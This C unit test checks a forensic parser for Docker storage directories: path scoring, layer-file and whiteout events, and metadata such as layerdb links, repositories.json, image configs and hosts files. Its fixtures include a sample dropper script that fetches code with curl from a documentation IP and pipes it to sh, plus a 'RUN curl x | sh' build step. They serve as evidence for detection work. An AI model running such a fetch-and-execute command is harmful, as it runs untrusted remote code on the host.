/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-docker-layer.c - the Docker root files known by their path:
 * sniff_path scores (layer files, bookkeeping, anything else under
 * var/lib/docker, nothing elsewhere), docker-layer events (path inside the
 * container, SHA-256, executable flag, whiteouts) and docker-meta events
 * (layerdb links, repositories.json tags, image config, lastUpdated, overlay
 * lower, hosts lines), with bad contents quarantined.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/parser.h>

#include "parse-harness.h"
#include "test.h"

extern const struct ty_parser ty_parser_docker_layer;
extern const struct ty_parser ty_parser_docker_meta;

#define MID "c7f13a9e50b2d84617e9c3a0f5b2d8e6a1c4f7b0e3d6a9c2f5b8e1d4a7c0f3b6"
#define CID "9e4b7c2d1a08f35e6b9d47c0a2e5f18b3c6d9a0e7f214b58c3a6d9e0f1b2c4a7"
#define ROOT "case/node-1/var/lib/docker/"

/* Open a parser as ingest would on the file at path. */
static void open_at(struct h *h, const struct ty_parser *p, const char *path, const char *head)
{
    h_open(h, p, head, strlen(head));
    p->close(&h->ctx);
    h->ctx.priv = NULL;
    h->ctx.evidence = path;
    CHECK_INT(p->open(&h->ctx, &h->err), 0);
}

static void test_sniff_path(void)
{
    const struct ty_str e = TY_STR_NULL;
    const struct ty_parser *L = &ty_parser_docker_layer, *M = &ty_parser_docker_meta;
    CHECK_INT(L->sniff_path(ROOT "overlay2/" MID "/diff/tmp/kinsing", e), 60);
    CHECK_INT(M->sniff_path(ROOT "overlay2/" MID "/diff/tmp/kinsing", e), 0);
    CHECK_INT(L->sniff_path(ROOT "overlay2/" MID "-init/diff/etc/hosts", e), 60);
    CHECK_INT(L->sniff_path("snap/overlay2/" MID "/diff/tmp/x", e), 60); /* another root name */
    CHECK_INT(L->sniff_path(ROOT "volumes/wp-data/_data/index.php", e), 60);
    CHECK_INT(L->sniff_path("/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/"
                            "snapshots/42/fs/tmp/x",
                            e),
              60);
    CHECK_INT(M->sniff_path(ROOT "image/overlay2/layerdb/mounts/" CID "/mount-id", e), 70);
    CHECK_INT(M->sniff_path(ROOT "image/overlay2/repositories.json", e), 70);
    CHECK_INT(M->sniff_path(ROOT "overlay2/" MID "/lower", e), 70);
    CHECK_INT(M->sniff_path(ROOT "containers/" CID "/hosts", e), 70);
    CHECK_INT(M->sniff_path(ROOT "engine-id", e), 70);
    CHECK_INT(M->sniff_path(ROOT "network/files/local-kv.db", e), 40);
    CHECK_INT(L->sniff_path(ROOT "network/files/local-kv.db", e), 0);
    CHECK_INT(M->sniff_path("home/alice/overlay2/notes.txt", e), 0);
    CHECK_INT(L->sniff_path("home/alice/overlay2/abc/diff/x", e), 0);
    CHECK_INT(M->sniff_path("etc/passwd", e), 0);
    const struct ty_parser *p = NULL;
    struct ty_err err;
    CHECK_INT(ty_parser_sniff_path(ROOT "overlay2/" MID "/diff/tmp/zzz", e, &p, &err), 0);
    CHECK(p == L);
    CHECK_INT(ty_parser_sniff_path(ROOT "image/overlay2/layerdb/sha256/ab/cache-id", e, &p, &err),
              0);
    CHECK(p == M);
}

static void test_layer(void)
{
    struct h h;
    const char *script = "#!/bin/sh\ncurl -s http://203.0.113.57/k | sh\n";
    open_at(&h, &ty_parser_docker_layer, ROOT "overlay2/" MID "/diff/tmp/zzz", script);
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_WHOLE);
    CHECK_STR(h.ctx.shape, "overlay2 layer file");
    h.ctx.file_mtime = INT64_C(1792500000000000000);
    CHECK_INT(h_feed_raw(&h, script, strlen(script)), TY_OK);
    const struct ty_event *ev = &h.last;
    CHECK_SPAN(ty_event_str(ev, TY_F_ACTION), "file-in-container-layer");
    CHECK_SPAN(ty_event_str(ev, TY_F_FILE_PATH), "/tmp/zzz");
    CHECK_SPAN(ty_event_str(ev, TY_F_FILE_HASH),
               "ff16d985a7bcc4f0ba6eb7c6728837410cce443f9db3cd2991f49af3b3364c4d");
    CHECK_SPAN(ty_event_str(ev, TY_F_TARGET_KIND), "docker-layer");
    CHECK_SPAN(ty_event_str(ev, TY_F_TARGET), MID);
    CHECK_SPAN(ty_event_str(ev, TY_F_DISPOSITION), "executable");
    CHECK_SPAN(ty_event_str(ev, TY_F_MESSAGE), "layer " MID ": 45 bytes, script (#!)");
    CHECK_INT(ty_event_int(ev, TY_F_TS, 0), INT64_C(1792500000000000000));
    CHECK_INT(ty_parser_docker_layer.taxonomy(ev), TY_SCAT_FILE_EVENT);
    /* a big file keeps only its first 4 KiB as the raw record */
    char *big = calloc(1, 10000);
    CHECK(big != NULL);
    if (big) {
        memcpy(big, "\x7f" "ELF", 4);
        CHECK_INT(h_feed_raw(&h, big, 10000), TY_OK);
        CHECK_INT((int64_t)h.last.raw.len, 4096);
        CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
                   "layer " MID ": 10000 bytes, ELF executable");
        free(big);
    }
    h_close(&h);

    open_at(&h, &ty_parser_docker_layer, ROOT "overlay2/" MID "/diff/etc/.wh.motd", "");
    CHECK_INT(h_feed_raw(&h, "", 0), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "file-deleted-in-container-layer");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "/etc/motd");
    CHECK(!ty_event_has(&h.last, TY_F_FILE_HASH));
    CHECK_INT(ty_parser_docker_layer.taxonomy(&h.last), TY_SCAT_FILE_DELETE);
    h_close(&h);

    open_at(&h, &ty_parser_docker_layer, ROOT "volumes/wp/_data/x.php", "<?php");
    CHECK_INT(h_feed_raw(&h, "<?php", 5), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "file-in-container-volume");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "/x.php");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "wp");
    CHECK(!ty_event_has(&h.last, TY_F_DISPOSITION));
    h_close(&h);
}

static void test_meta(void)
{
    struct h h;
    open_at(&h, &ty_parser_docker_meta, ROOT "image/overlay2/layerdb/mounts/" CID "/mount-id",
            MID);
    CHECK_INT(h_feed_raw(&h, MID "\n", 65), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "docker-layerdb-mount-id");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_ID), CID);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), MID);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_KIND), "docker-layer");
    CHECK_INT(h_feed_raw(&h, "two words", 9), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 0") != NULL);
    h_close(&h);

    const char *repos = "{\"Repositories\":{\"tomcat-web\":{\"tomcat-web:2.14.0\":\"sha256:6f2d\","
                        "\"tomcat-web@sha256:0d5e\":\"sha256:6f2d\"}}}";
    open_at(&h, &ty_parser_docker_meta, ROOT "image/overlay2/repositories.json", repos);
    CHECK_INT(h_feed_raw(&h, repos, strlen(repos)), TY_OK);
    CHECK_INT(h.n, 2);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_IMAGE), "tomcat-web@sha256:0d5e");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "6f2d");
    CHECK_INT(h_feed_raw(&h, "{\"x\":1}", 7), TY_ECORRUPT);
    CHECK_INT(h_feed_raw(&h, "{\"Repo", 6), TY_ECORRUPT);
    h_close(&h);

    const char *cfg = "{\"created\":\"2026-10-01T10:00:00Z\",\"config\":{\"User\":\"root\","
                      "\"Entrypoint\":[\"/entry.sh\"],\"Cmd\":[\"apache2-foreground\"]},"
                      "\"history\":[{\"created_by\":\"ADD file:1 in /\"},{\"created_by\":"
                      "\"RUN curl x | sh\"}]}";
    open_at(&h, &ty_parser_docker_meta, ROOT "image/overlay2/imagedb/content/sha256/25bd", cfg);
    CHECK_INT(h_feed_raw(&h, cfg, strlen(cfg)), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "docker-image-config");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1790848800) * 1000000000);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "/entry.sh apache2-foreground");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "image 25bd: 2 build steps; last: ADD file:1 in / | RUN curl x | sh");
    h_close(&h);

    open_at(&h, &ty_parser_docker_meta,
            ROOT "image/overlay2/imagedb/metadata/sha256/25bd/lastUpdated", "x");
    CHECK_INT(h_feed_raw(&h, "2026-10-02T10:00:00.5Z", 22), TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1790935200500000000));
    CHECK_INT(h_feed_raw(&h, "soon", 4), TY_ECORRUPT);
    h_close(&h);

    open_at(&h, &ty_parser_docker_meta, ROOT "overlay2/" MID "/lower", "l/A:l/B");
    CHECK_INT(h_feed_raw(&h, "l/A:l/B", 7), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "overlay2 " MID " sits on 2 layers: l/A:l/B");
    h_close(&h);

    open_at(&h, &ty_parser_docker_meta, ROOT "containers/" CID "/hosts", "x");
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_INT(h_feed_raw(&h, "# comment", 9), TY_SKIP);
    CHECK_INT(h_feed_raw(&h, "127.0.0.1\tlocalhost", 19), TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_SRC_IP));
    CHECK_INT(h_feed_raw(&h, "10.0.1.87\twordpress-7d9f8b6c5d-x4k2p", 36), TY_OK);
    char ip[64];
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ip), "10.0.1.87");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_HOST), "wordpress-7d9f8b6c5d-x4k2p");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_ID), CID);
    CHECK_INT(h_feed_raw(&h, "not-an-ip name", 14), TY_ECORRUPT);
    h_close(&h);

    open_at(&h, &ty_parser_docker_meta, ROOT "network/files/local-kv.db", "x");
    CHECK_INT(h_feed_raw(&h, "", 0), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "docker-root-file");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "network/files/local-kv.db");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_HASH),
               "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    h_close(&h);
}

void test_parse_docker_layer(void);
void test_parse_docker_layer(void)
{
    test_sniff_path();
    test_layer();
    test_meta();
    q_release();
}
